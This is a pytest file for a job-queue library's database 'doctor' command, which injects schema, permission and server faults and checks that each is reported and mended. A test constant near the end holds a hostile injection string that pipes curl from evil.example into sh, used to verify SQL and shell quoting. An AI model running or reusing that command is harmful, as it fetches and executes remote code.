"""Doctor: each fault is made, seen, told with its remedy, and if it can be mended, mended and gone."""

import json
import shlex
import shutil
import time
import zoneinfo
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, contextmanager
from pathlib import Path
from typing import LiteralString

import psycopg
import pytest
from psycopg import sql

from ayb_jobs import NewJob, enqueue
from ayb_jobs.checks import queue, server
from ayb_jobs.checks.diagnosis import QUESTIONS
from ayb_jobs.checks.server import unheard
from ayb_jobs.checks.why import why_job
from ayb_jobs.cli.exits import ExitCode
from ayb_jobs.model.daemons import DaemonRecord
from ayb_jobs.model.limits import NewLimit
from ayb_jobs.model.pauses import NewPause, PauseKind
from ayb_jobs.model.schedules import zones
from ayb_jobs.storage.database import Connection, connect
from ayb_jobs.storage.drift import made_columns, made_indexes
from ayb_jobs.storage.fleet.daemons import beat
from ayb_jobs.storage.fleet.limits import set_limit
from ayb_jobs.storage.fleet.pauses import pause
from ayb_jobs.storage.fleet.trouble import list_long_runs
from ayb_jobs.storage.migrate import migrate
from ayb_jobs.storage.rows import one_row
from ayb_jobs.storage.server import sql_name, sql_text
from tests.cli.conftest import Cli
from tests.factories import make_job, make_schedule

Doctor = Callable[..., tuple[int, dict[str, object]]]


@pytest.fixture
def doctor(database_url: str) -> Doctor:
    return asking(database_url)


def asking(database_url: str) -> Doctor:
    """Return what asks the doctor about a database, for its exit code and what it says."""
    cli = Cli({"AYB_JOBS_DATABASE_URL": database_url, "AYB_JOBS_ENABLED": "true"})

    def ask(*flags: str) -> tuple[int, dict[str, object]]:
        said = cli("doctor", *flags, "--json")
        return said.code, json.loads(said.out)

    return ask


@pytest.fixture
def role(conn: Connection) -> Iterator[str]:
    name = f"role_{conn.info.dbname}"
    conn.execute(f"CREATE ROLE {name} LOGIN".encode())
    yield name
    conn.execute(f"DROP OWNED BY {name}".encode())
    conn.execute(f"DROP ROLE {name}".encode())


# The server of the tests is quick, and keeps nothing: that is always found, and seen here.
NO_FSYNC = "server.fsync_off"


def alive(conn: Connection, name: str = "a", version: str = "1") -> None:
    conn.execute(sql.SQL("ALTER DATABASE {} SET synchronous_commit = on").format(sql.Identifier(conn.info.dbname)))
    beat(
        conn, DaemonRecord(id=name, host="h", pid=1, version=version, concurrency=2, queues=["default"], types=["test"])
    )


def names(report: dict[str, object]) -> set[str]:
    found = report["findings"]
    assert isinstance(found, list)
    for each in found:
        assert each["fact"]
        assert each["meaning"]
        assert each["remedy"]
    told = {each["name"] for each in found}
    assert NO_FSYNC in told
    return told - {NO_FSYNC}


def test_a_healthy_database_has_no_finding_and_tells_what_was_asked(conn: Connection, doctor: Doctor) -> None:
    alive(conn)
    code, report = doctor()
    assert (code, names(report), report["notChecked"]) == (ExitCode.FAILED, set(), {})
    asked = [question.words for question in QUESTIONS if "keeps what it commits" not in question.words]
    assert report["well"] == [*asked, "notifications arrive"]


def two_versions(conn: Connection) -> None:
    alive(conn, "b", "2")


def numbers_come_again(conn: Connection) -> None:
    conn.execute(
        "INSERT INTO _ayb_job_executions (id, job_id, job_type, attempt, outcome, started_at, ended_at)"
        " VALUES (4711, gen_random_uuid(), 't', 1, 'completed', now(), now())"
    )


def an_index_is_missing(conn: Connection) -> None:
    conn.execute("DROP INDEX idx_ayb_jobs_failed")


def an_index_is_invalid(conn: Connection) -> None:
    for _ in range(2):
        make_job(conn, type="twice")
    with pytest.raises(psycopg.errors.UniqueViolation):
        conn.execute("CREATE UNIQUE INDEX CONCURRENTLY half_built ON _ayb_jobs (type)")
    conn.execute("DELETE FROM _ayb_jobs")


def everybody_creates(conn: Connection) -> None:
    conn.execute("GRANT CREATE ON SCHEMA public TO PUBLIC")


def autovacuum_is_off(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_jobs SET (autovacuum_enabled = off)")


def many_are_dead_of_a_small_table(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_job_dependencies SET (autovacuum_enabled = off)")
    conn.execute(
        "INSERT INTO _ayb_job_dependencies (child_id, parent_id, rule) SELECT gen_random_uuid(), gen_random_uuid(), 'run'"
        " FROM generate_series(1, 12000)"
    )
    conn.execute("DELETE FROM _ayb_job_dependencies")
    conn.execute("SELECT pg_stat_force_next_flush()")
    conn.execute("ALTER TABLE _ayb_job_dependencies RESET (autovacuum_enabled)")


def many_are_dead(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_job_executions SET (autovacuum_enabled = off)")
    conn.execute(
        "INSERT INTO _ayb_job_executions (id, job_id, job_type, attempt, outcome, started_at, ended_at)"
        " SELECT nextval('_ayb_job_execution_ids'), gen_random_uuid(), 't', 1, 'completed', now(), now()"
        " FROM generate_series(1, 12000)"
    )
    conn.execute("DELETE FROM _ayb_job_executions")
    conn.execute("SELECT pg_stat_force_next_flush()")
    conn.execute("ALTER TABLE _ayb_job_executions RESET (autovacuum_enabled)")


def commits_are_not_waited_for(conn: Connection) -> None:
    conn.execute(sql.SQL("ALTER DATABASE {} SET synchronous_commit = off").format(sql.Identifier(conn.info.dbname)))


def attempts_are_lost(conn: Connection) -> None:
    lose(conn, "killer", attempts=2, ended="2 hours", ran="1 second")
    lose(conn, "killer", attempts=1, ended="1 hour", ran="1 second")


def lose(conn: Connection, job_type: str, *, attempts: int, ended: str, ran: str) -> None:
    """Log attempts that lost their daemon so long ago, all at once, and had run for so long."""
    conn.execute(
        "INSERT INTO _ayb_job_executions (id, job_id, job_type, attempt, outcome, started_at, ended_at)"
        " SELECT nextval('_ayb_job_execution_ids'), gen_random_uuid(), %s, 1, 'lost', now() - %s::interval - %s::interval,"
        " now() - %s::interval FROM generate_series(1, %s)",
        (job_type, ended, ran, ended, attempts),
    )


def a_column_is_missing(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_job_outputs RENAME COLUMN written_at TO at")


def one_attempt_alone(conn: Connection) -> None:
    make_job(conn, "completed", max_attempts=1)


def runs_are_longer_than_leases(conn: Connection) -> None:
    make_job(conn, "running", worker_id="a")
    lose(conn, "slow", attempts=1, ended="2 hours", ran="1 hour")
    lose(conn, "slow", attempts=1, ended="0", ran="1 hour")


def a_clock_is_wrong(conn: Connection) -> None:
    conn.execute("UPDATE _ayb_job_workers SET clock_ahead_s = -90")


def a_default_is_changed(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_jobs ALTER COLUMN queue SET DEFAULT 'other'")


def a_type_is_changed(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_job_outputs ALTER COLUMN attempt TYPE bigint")


def an_index_is_another(conn: Connection) -> None:
    conn.execute("DROP INDEX idx_ayb_jobs_failed")
    conn.execute("CREATE INDEX idx_ayb_jobs_failed ON _ayb_jobs (id)")


def a_function_is_changed(conn: Connection) -> None:
    conn.execute("ALTER FUNCTION ayb_jobs.ayb_jobs_cancel SET search_path = public")


def a_function_is_gone(conn: Connection) -> None:
    conn.execute("DROP FUNCTION ayb_jobs.ayb_jobs_cancel")


def a_trigger_is_off(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_job_schedules DISABLE TRIGGER trg_ayb_job_schedules_enabled")


def a_trigger_is_gone(conn: Connection) -> None:
    conn.execute("DROP TRIGGER trg_ayb_job_schedules_enabled ON _ayb_job_schedules")


def a_trigger_is_another(conn: Connection) -> None:
    a_trigger_is_gone(conn)
    conn.execute(
        "CREATE TRIGGER trg_ayb_job_schedules_enabled BEFORE UPDATE OF name ON _ayb_job_schedules FOR EACH ROW"
        " EXECUTE FUNCTION _ayb_job_schedule_enabled()"
    )


def a_constraint_is_another(conn: Connection) -> None:
    a_constraint_is_gone(conn)
    conn.execute("ALTER TABLE _ayb_job_pauses ADD CONSTRAINT _ayb_job_pauses_kind_check CHECK (kind <> 'day')")


def a_constraint_is_not_valid(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_job_pauses DROP CONSTRAINT _ayb_job_pauses_kind_check")
    conn.execute(
        "ALTER TABLE _ayb_job_pauses ADD CONSTRAINT _ayb_job_pauses_kind_check CHECK (kind IN ('queue', 'type', 'key')) NOT VALID"
    )


def a_constraint_is_gone(conn: Connection) -> None:
    conn.execute("ALTER TABLE _ayb_job_pauses DROP CONSTRAINT _ayb_job_pauses_kind_check")


def a_limit_is_not_obeyed(conn: Connection) -> None:
    with conn.transaction():
        set_limit(conn, NewLimit(name="few", types=["mail"], max_running=1), by="ada")


def a_pause_is_not_obeyed(conn: Connection) -> None:
    with conn.transaction():
        pause(conn, NewPause(kind=PauseKind.QUEUE, name="heavy"), by="ada")


def a_limit_lets_nothing_start(conn: Connection) -> None:
    a_limit_is_not_obeyed(conn)
    conn.execute("UPDATE _ayb_job_limits SET max_running = 0")
    conn.execute("UPDATE _ayb_job_workers SET limits_confirmed = 1000")
    make_job(
        conn, type="mail", run_at=sql.SQL("now() + interval '1 day'"), priority=6, limited_by="few", limited_key=""
    )


def a_batch_is_not_sealed(conn: Connection) -> None:
    batch_id, running = make_batch(conn), make_batch(conn)
    make_batch(conn, age="59 min")
    for id_, state in ((batch_id, "completed"), (running, "queued"), (make_batch(conn, "now()"), "completed")):
        conn.execute("UPDATE _ayb_jobs SET batch_id = %s WHERE id = %s", (id_, make_job(conn, state=state)))


def make_batch(conn: Connection, sealed: LiteralString = "NULL", *, age: str = "2 h") -> str:
    made = conn.execute(
        "INSERT INTO _ayb_job_batches (id, created_at, sealed_at)"
        f" VALUES (_ayb_job_id(), now() - %s::interval, {sealed}) RETURNING id::text",
        (age,),
    )
    return str(one_row(made)[0])


def a_schedule_has_ended(conn: Connection) -> None:
    for name, next_run_at, ended_at in (("gone", None, "now()"), ("far", "now() + interval '6 years'", None)):
        make_schedule(
            conn, name=name, cron_expr="0 0 1 1 * 2020", next_run_at=next_run_at and sql.SQL(next_run_at),
            ended_at=ended_at and sql.SQL(ended_at), planned="0 0 1 1 * 2020 UTC once",
        )  # fmt: skip
    make_schedule(conn, name="off", enabled=False, next_run_at=None)


def everybody_reads(conn: Connection) -> None:
    conn.execute("GRANT SELECT ON _ayb_jobs TO PUBLIC")


def everybody_calls(conn: Connection) -> None:
    conn.execute("GRANT EXECUTE ON FUNCTION _ayb_job_text(jsonb) TO PUBLIC")


def a_parent_is_held_for(conn: Connection) -> None:
    parent = make_job(conn, "failed")
    enqueue(conn, NewJob(type="test", depends_on=[parent], on_parent_failure="hold"))


FAULTS: dict[Callable[[Connection], None], str] = {
    two_versions: "daemons.mixed",
    numbers_come_again: "sequence.behind",
    an_index_is_missing: "index.missing",
    an_index_is_invalid: "index.invalid",
    everybody_creates: "schema.open",
    autovacuum_is_off: "table.autovacuum_off",
    many_are_dead: "table.bloated",
    many_are_dead_of_a_small_table: "table.bloated",
    commits_are_not_waited_for: "server.asynchronous_commit",
    attempts_are_lost: "types.often_lost",
    one_attempt_alone: "types.one_attempt",
    runs_are_longer_than_leases: "types.outrun_lease",
    a_clock_is_wrong: "daemon.clock",
    a_default_is_changed: "column.changed",
    a_type_is_changed: "column.changed",
    an_index_is_another: "index.changed",
    a_function_is_changed: "function.changed",
    a_function_is_gone: "function.missing",
    a_trigger_is_off: "trigger.off",
    a_trigger_is_gone: "trigger.missing",
    a_constraint_is_not_valid: "constraint.not_valid",
    a_constraint_is_gone: "constraint.missing",
    a_constraint_is_another: "constraint.changed",
    a_trigger_is_another: "trigger.changed",
    a_limit_is_not_obeyed: "limits.unobeyed",
    a_limit_lets_nothing_start: "limits.never",
    a_parent_is_held_for: "children.held",
    a_schedule_has_ended: "schedules.never",
    everybody_reads: "rights.public",
    everybody_calls: "rights.public",
    a_batch_is_not_sealed: "batches.unsealed",
    a_pause_is_not_obeyed: "pauses.unobeyed",
}


@pytest.mark.parametrize("fault", FAULTS, ids=lambda each: each.__name__)
def test_a_fault_is_found_and_mended_if_that_is_safe(
    conn: Connection, doctor: Doctor, fault: Callable[[Connection], None]
) -> None:
    seen_and_mended(conn, doctor, fault)


@pytest.mark.slow
@pytest.mark.parametrize("fault", FAULTS, ids=lambda each: each.__name__)
def test_a_fault_is_found_and_mended_on_every_major(
    each_empty_database_url: str, fault: Callable[[Connection], None]
) -> None:
    with closing(connect(each_empty_database_url, name="test")) as conn:
        migrate(conn)
        seen_and_mended(conn, asking(each_empty_database_url), fault)


def seen_and_mended(conn: Connection, doctor: Doctor, fault: Callable[[Connection], None]) -> None:
    alive(conn)
    fault(conn)
    code, report = doctor()
    assert (code, names(report)) == (ExitCode.FAILED, {FAULTS[fault]})
    found = report["findings"]
    assert isinstance(found, list)
    code, after = doctor("--fix")
    if any(each["fixable"] for each in found):
        assert (names(after), len(str(after["fixed"])) > 2) == (set(), True)
    else:
        assert (code, names(after), after["fixed"]) == (ExitCode.FAILED, {FAULTS[fault]}, [])


def test_a_column_that_is_missing_is_found_with_the_index_on_it(conn: Connection, doctor: Doctor) -> None:
    alive(conn)
    a_column_is_missing(conn)
    code, report = doctor()
    assert (code, names(report)) == (ExitCode.FAILED, {"column.missing", "index.changed"})


@contextmanager
def in_transaction(url: str, *statements: str) -> Iterator[psycopg.Connection[object]]:
    with psycopg.connect(url) as other:
        for statement in statements:
            other.execute(statement.encode())
        yield other
        other.rollback()


def test_who_holds_rows_back_or_locks_them_is_named(
    conn: Connection, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server, "HELD_S", 0.0)
    monkeypatch.setattr(server, "IDLE_S", 0.0)
    make_job(conn)
    with in_transaction(database_url, "SELECT FROM _ayb_jobs FOR UPDATE") as other:
        pid = other.info.backend_pid
        assert next(each.fact for each in server.held_back(conn)).startswith(f"the session with pid {pid} has kept")
        (lock,) = server.idle_locks(conn)
    assert lock.fact.startswith(f"the session with pid {pid} has held locks on _ayb_jobs")
    assert f"pg_terminate_backend({pid})" in lock.remedy
    assert list(server.held_back(conn)) == list(server.idle_locks(conn)) == []


def test_connections_that_are_used_up_are_told(
    conn: Connection, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server, "FULL", 0.02)
    with ExitStack() as stack:
        for _ in range(8):
            stack.enter_context(psycopg.connect(database_url))
        assert "server.connections" in {each.name for each in server.server_settings(conn)}


def test_a_queue_of_notifications_that_fills_is_told(
    conn: Connection, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server, "HALF", 1e-12)  # the real queue holds 8 GiB
    with in_transaction(database_url, "LISTEN heard", "COMMIT", "SELECT"):
        with conn.transaction():
            conn.execute("SELECT pg_notify('heard', n || repeat('x', 7000)) FROM generate_series(1, 9) AS n")
        facts = {each.name: each for each in server.server_settings(conn)}
    assert "server.notify_queue" in facts
    assert facts["server.notify_queue"].evidence["used"] > 0


def test_clocks_that_differ_are_told(conn: Connection, monkeypatch: pytest.MonkeyPatch) -> None:
    now = time.time
    monkeypatch.setattr(time, "time", lambda: now() - 60)
    facts = [each.fact for each in server.server_settings(conn)]
    assert "this machine's clock is 1 min behind the database's" in facts


@pytest.fixture
def odd_zones(tmp_path: Path) -> Iterator[None]:
    """Give this machine the rules of Tokyo for Berlin."""
    (tmp_path / "Europe").mkdir()
    source = next(Path(folder) / "Asia/Tokyo" for folder in zoneinfo.TZPATH if (Path(folder) / "Asia/Tokyo").exists())
    shutil.copy(source, tmp_path / "Europe/Berlin")
    before = zoneinfo.TZPATH
    zoneinfo.reset_tzpath([tmp_path, *before])
    zoneinfo.ZoneInfo.clear_cache()
    zones.find_zone.cache_clear()
    yield
    zoneinfo.reset_tzpath(before)
    zoneinfo.ZoneInfo.clear_cache()
    zones.find_zone.cache_clear()


@pytest.mark.usefixtures("odd_zones")
def test_zones_with_other_rules_than_the_servers_are_told(conn: Connection) -> None:
    for zone in ("Europe/Berlin", "America/New_York", "Local", "Mars/Base"):
        make_schedule(conn, timezone=zone)
    (found,) = server.zones(conn)
    assert found.name == "zones.differ"
    assert found.fact == "this machine and the database know different rules for `Europe/Berlin`"


def test_what_the_migrations_make_is_read_from_them(conn: Connection) -> None:
    indexes = conn.execute(
        "SELECT relname FROM pg_class JOIN pg_index ON indexrelid = pg_class.oid WHERE left(relname, 8) = 'idx_ayb_'"
    )
    assert set(made_indexes()) == {name for (name,) in indexes}
    columns = conn.execute(
        "SELECT relname, attname FROM pg_attribute JOIN pg_class ON attrelid = pg_class.oid"
        " WHERE left(relname, 8) = '_ayb_job' AND relkind = 'r' AND attnum > 0 AND NOT attisdropped"
        " AND relname <> '_ayb_jobs_migrations'"
    )
    assert made_columns() == set(columns.fetchall())


def test_notifications_that_do_not_arrive_are_told(database_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    assert unheard(database_url) is None
    monkeypatch.setattr("ayb_jobs.storage.listener.NOTIFY", "SELECT")
    found = unheard(database_url)
    assert found is not None
    assert found.name == "notify.unheard"


def test_one_host_that_dies_is_not_told_of_its_types(conn: Connection, doctor: Doctor) -> None:
    alive(conn)
    make_job(conn, "running", worker_id="a")
    lose(conn, "nap", attempts=50, ended="1 hour", ran="1 hour")
    lose(conn, "nap", attempts=50, ended="1 hour - 30 seconds", ran="1 hour")  # leases run out one after the other
    assert names(doctor()[1]) == set()
    lose(conn, "nap", attempts=1, ended="1 second", ran="50 minutes")
    assert names(doctor()[1]) == {"types.often_lost", "types.outrun_lease"}


def test_a_lease_that_runs_down_is_as_long_as_it_was(conn: Connection) -> None:
    runs_are_longer_than_leases(conn)
    conn.execute("UPDATE _ayb_jobs SET last_run_at = now() - interval '2 hours', lease_until = now()")
    assert list_long_runs(conn) == []
    conn.execute("UPDATE _ayb_jobs SET last_run_at = lease_until - interval '1 minute'")
    assert [each.lease_s for each in list_long_runs(conn)] == [60.0]


def test_what_a_role_may_not_see_is_named_as_not_checked(conn: Connection, database_url: str, role: str) -> None:
    alive(conn)
    cli = Cli({"AYB_JOBS_DATABASE_URL": database_url, "AYB_JOBS_ENABLED": "true"})
    cli.ok("grant", role, "--read")
    as_role = psycopg.conninfo.make_conninfo(database_url, options=f"-c role={role}")
    said = Cli({"AYB_JOBS_DATABASE_URL": as_role, "AYB_JOBS_ENABLED": "true"})("doctor", "--json")
    report = json.loads(said.out)
    assert "no right to read others' sessions" in report["notChecked"]["old versions of rows can be removed"]
    assert "rights.missing" in names(report)


def test_what_cannot_be_mended_is_told_and_stays_found(conn: Connection, doctor: Doctor) -> None:
    alive(conn)
    a_constraint_is_gone(conn)
    conn.execute("INSERT INTO _ayb_job_pauses (kind, name, paused_by, until) VALUES ('day', 'd', 'ada', now())")
    conn.execute(
        "ALTER TABLE _ayb_job_pauses ADD CONSTRAINT _ayb_job_pauses_kind_check CHECK (kind IN ('queue', 'type', 'key')) NOT VALID"
    )
    code, report = doctor("--fix")
    assert (code, names(report), report["fixed"]) == (ExitCode.FAILED, {"constraint.not_valid"}, [])
    assert "is violated by some row" in str(report["notFixed"])


def test_several_owners_are_told(conn: Connection, role: str) -> None:
    conn.execute(f"ALTER TABLE _ayb_job_audit OWNER TO {role}".encode())
    (found,) = server.owners(conn)
    assert role in found.fact
    conn.execute("ALTER TABLE _ayb_job_audit OWNER TO CURRENT_USER")


def test_a_person_reads_lines(conn: Connection, database_url: str) -> None:
    alive(conn)
    two_versions(conn)
    said = Cli({"AYB_JOBS_DATABASE_URL": database_url, "AYB_JOBS_ENABLED": "true"})("doctor")
    assert said.code == ExitCode.FAILED
    assert "✗ Daemons of 2 versions are alive: 1 of 1, 1 of 2." in said.out
    assert "  Do: End the deploy: update the daemons that were left" in said.out
    assert "✓ autovacuum keeps up" in said.out


HOSTILE = "x'; curl evil.example | sh; \\"


def test_a_text_or_a_name_in_a_statement_does_nothing_of_its_own(conn: Connection) -> None:
    for text in (HOSTILE, "plain", '"', "\\'", "user"):
        as_text, as_name = sql_text(conn, text), sql_name(conn, text)
        assert conn.execute(f"SELECT {as_text}, {as_name} FROM (SELECT 1) AS one ({as_name})".encode()).fetchone() == (
            text,
            1,
        )
        described = conn.execute(f"SELECT 1 AS {as_name}".encode()).description
        assert described is not None
        assert described[0].name == text


@pytest.mark.parametrize(("name", "typed"), [("mail", "mail"), (HOSTILE, shlex.quote(HOSTILE))])
def test_the_remedy_of_a_paused_or_failing_name_is_one_word(conn: Connection, name: str, typed: str) -> None:
    with conn.transaction():
        pause(conn, NewPause(kind=PauseKind.QUEUE, name=name), by="ada")
    waiting = make_job(conn, queue=name, run_at=sql.SQL("now() - interval '5 minutes'"))
    for _ in range(6):
        make_job(conn, "failed", type=name)
    assert why_job(conn, waiting).reason.remedy == f"ayb-jobs queues resume {typed}"
    told = [each.remedy for each in (queue.paused(conn), queue.failing(conn)) if each]
    assert told == [f"ayb-jobs queues resume {typed}", f"ayb-jobs jobs list --state failed --type {typed}"]
    assert [shlex.split(each)[-1] for each in told] == [name] * 2
